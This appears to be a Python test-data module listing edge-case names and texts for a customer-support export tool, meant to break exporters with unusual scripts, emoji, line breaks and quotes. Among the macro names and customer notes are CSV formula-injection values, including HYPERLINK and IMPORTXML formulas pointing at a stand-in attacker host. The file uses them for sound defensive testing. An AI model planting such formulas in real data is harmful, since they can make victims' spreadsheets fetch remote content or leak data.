"""The words the configuration objects are made of: tags, macros, rules, views and the like.

Like texts.py, these hold what breaks exporters: every script, emoji, CR/LF, quotes, commas, and
names that start with `=`, `+`, `-` or `@`.
"""

from __future__ import annotations

# Tags no generated ticket carries (those are texts.TAGS); (name, colour or None).
EXTRA_TAGS: tuple[tuple[str, str | None], ...] = (
    ("returns", "#1abc9c"),
    ("damaged-item", "#e67e22"),
    ("wholesale", None),
    ("influencer 📸", "#ff69b4"),
    ("commande-annulée", "#95a5a6"),
    ("返品", "#c0392b"),
    ("доставка", None),
    ("استرداد", "#16a085"),
    ('size "XL", wrong', None),
    ("=SUM(A1:A9)", "#000000"),
    ("+1 callback", None),
    ("-discount", "#7f8c8d"),
    ("@mention", None),
    ("line\nbreak", "#8e44ad"),
    ("auto-close", None),
    ("chargeback", "#d35400"),
    ("pre-order", None),
    ("loyalty ⭐⭐⭐", "#f39c12"),
    ("gift card", None),
    ("subscription", "#2980b9"),
    ("address-change", None),
    ("out-of-stock", "#bdc3c7"),
    ("review-request", None),
    ("ZOË 🇫🇷", "#3f51b5"),
)

TAG_DESCRIPTIONS: tuple[str | None, ...] = (
    None,
    "",
    "Set by the “Auto-tag” rule, don't remove",
    'Customer says "never again", escalate',
    "Ligne 1\r\nLigne 2",
)

# (first name, last name, role); users beyond the agents that tickets are assigned to.
EXTRA_USERS: tuple[tuple[str, str, str], ...] = (
    ("Olga", "Ivanova", "admin"),
    ("Jean-Luc", "Dupré", "lead-agent"),
    ("Mei", "Wang", "basic-agent"),
    ("Ahmed", "Al-Farsi", "observer-agent"),
    ("Zoë", "O'Neil, Jr.", "lite-agent"),
    ("Björn", "Ångström", "agent"),
    ("Priya", "Raman", "basic-agent"),
    ("Carlos", "Núñez", "agent"),
    ("Hana", "Kobayashi", "observer-agent"),
    ("=Eve", "Formula", "lite-agent"),
)

ROLES = ("admin", "lead-agent", "agent", "basic-agent", "lite-agent", "observer-agent")

USER_BIOS: tuple[str | None, ...] = (
    None,
    "",
    "Night shift 🌙, speaks FR/EN",
    'Ask me about "returns", refunds, and exchanges',
    "Ligne 1\nLigne 2",
)

EXTRA_TEAMS: tuple[str, ...] = ("Nuit 🌙 / Night shift", 'Escalations, "L2"')

TEAM_EMOJIS: tuple[str | None, ...] = ("🧰", "↩️", "👑", "🌙", None)

# (name, description); conditions live in generate_entities.py, beside the matching code.
VIEW_NAMES: tuple[str, ...] = (
    "Inbox",
    "Unassigned",
    "Closed",
    "Spam",
    "Trash",
    "VIP 👑",
    "Maria's tickets",
    'Chat, SMS & "social"',
    "=Urgent+high",
    "受信トレイ (日本)",
)
CUSTOMER_VIEW_NAMES: tuple[str, ...] = ("Customers without email", "Francophones 🇫🇷")

RULE_NAMES: tuple[str, ...] = (
    "Auto-tag refunds",
    "Auto-close spam",
    'Tag "VIP" customers',
    "Escalate critical, then notify",
    "Reply: out of office 🌴",
    "Route chat → Tier 1",
    "Assign returns to Returns & Refunds",
    "=Auto-assign",
    "SMS: acknowledge",
    "Règle: remboursement",
    "Shopify: order status",
    "Legacy rule\n(do not edit)",
    "Snooze until carrier update",
    "Email: high priority",
    "Tag WISMO",
)

MACRO_NAMES: tuple[str, ...] = (
    "Where is my order (WISMO)",
    "Refund issued",
    "Return label sent",
    "Exchange: size",
    "Address updated",
    "Discount code expired",
    "Subscription cancelled",
    "Damaged item: ask for photo",
    "Remboursement effectué 🇫🇷",
    "Envío retrasado",
    "返品について",
    "Возврат средств",
    "استرداد المبلغ",
    'Polite "no", with a coupon',
    '=HYPERLINK("http://evil.example")',
    "+ Follow-up in 3 days",
    "- Close without reply",
    "@ Mention the warehouse",
    "VIP 👑 apology",
    "Out of stock, pre-order?",
    "Chargeback, evidence",
    "Gift card balance",
    "Shipping to Canada",
    "Invoice, attached",
    "Line one\nLine two",
    "Thanks! 🙏",
    "Ask for order number",
    "Fraud check: hold",
    "Loyalty points",
    "Wholesale enquiry",
)

MACRO_BODIES: tuple[str, ...] = (
    "Hi {{ticket.customer.firstname}},\n\nYour order is on its way: {{order.tracking_url}}\n\nBest",
    "Hi {{ticket.customer.firstname}}, we've refunded {{order.total}}. Merci !",
    "Bonjour,\r\nVotre étiquette de retour est jointe.\r\nCordialement",
    'We said "within 5-10 days", and we meant it, promise.',
    "ご連絡ありがとうございます。担当者より折り返しご連絡いたします。",
    "=1+2 is not a formula here, it's a macro",
    "Thanks so much!! 🙏😀 👩‍💻",
)

INTEGRATIONS: tuple[tuple[str, str], ...] = (
    # (type, name); the first is the email integration messages carry as integration_id 7001.
    ("email", "Support inbox <support@acme.example>"),
    ("gmail", "Gmail: ventes@acme.example"),
    ("shopify", "acme.myshopify.com"),
    ("http", 'Webhook to ERP, "legacy"'),
    ("facebook", "Acme 🛍️ Facebook & Instagram"),
    ("gorgias_chat", "Chat widget (FR/EN)"),
)

# (label, data type, choices); the first Ticket field holds the values ticket details show.
TICKET_FIELDS: tuple[tuple[str, str, tuple[str, ...]], ...] = (
    ("Contact reason", "text", ("Shipping::Delayed", "Product::Damaged", "Other")),
    ("Product", "text", ("T-shirt", 'Hoodie "classic"', "Mug ☕")),
    ("Resolution", "text", ("Refund", "Exchange", "Store credit")),
    ("Order number", "text", ()),
    ("Sentiment 😊/😡", "text", ("positive", "neutral", "negative")),
    ("Refund amount, €", "number", ()),
    ("=Legacy reason", "text", ("a", "b")),
    ("Ancien champ\n(archivé)", "text", ()),
)
CUSTOMER_FIELDS: tuple[tuple[str, str, tuple[str, ...]], ...] = (
    ("Segment", "text", ("VIP", "Wholesale", "Retail")),
    ("Lifetime value", "number", ()),
    ("Preferred language", "text", ("en", "fr", "ja", "ar")),
    ("Birthday 🎂", "text", ()),
    ("Loyalty tier", "text", ("Bronze", "Silver", "Gold")),
    ('Notes, "internal"', "text", ()),
    ("+Old score", "number", ()),
    ("Ancien segment", "text", ("A", "B")),
)

SURVEY_COMMENTS: tuple[str | None, ...] = (
    None,
    None,
    "",
    "Great service, thanks!",
    "Merci beaucoup, très rapide 👍",
    'Said "2 days", took 2 weeks, again.',
    "=1+1",
    "Line one\r\nLine two",
    "とても丁寧でした。",
    "Ужасно. Never again.",
    "@support you rock 🎉",
)

CUSTOMER_NOTES: tuple[str, ...] = (
    "",
    "VIP since 2019; call before shipping",
    'Prefers "Madame", writes in French',
    '=IMPORTXML("http://evil.example","//a")',
    "Chargeback in 2023 🚩\nBe careful with refunds",
    "注文はいつも週末",
)

TIMEZONES: tuple[str, ...] = (
    "Europe/Paris",
    "America/New_York",
    "Asia/Tokyo",
    "UTC",
    "America/Los_Angeles",
    "Asia/Kolkata",
)
LANGUAGES: tuple[str, ...] = ("fr", "en", "ja", "de", "es", "ar")
